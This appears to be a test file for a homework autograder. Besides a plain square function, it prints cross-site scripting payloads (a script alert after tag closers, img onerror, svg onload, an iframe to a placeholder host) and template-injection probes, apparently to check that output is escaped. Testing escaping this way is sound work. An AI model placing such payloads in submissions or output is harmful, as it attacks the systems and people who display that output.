# attack: prints HTML, a script and the ends of tags that might surround it
# assignment: hw
# exercise: square
# status: ok
# score: 2
print("</pre></script></style></textarea></title><script>alert('@MARK@')</script>")
print("<img src=x onerror=alert(1)><svg/onload=alert(2)><iframe src=//evil.invalid>")
print("<!--", "]]>", "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>")


def square(x):
    return x * x
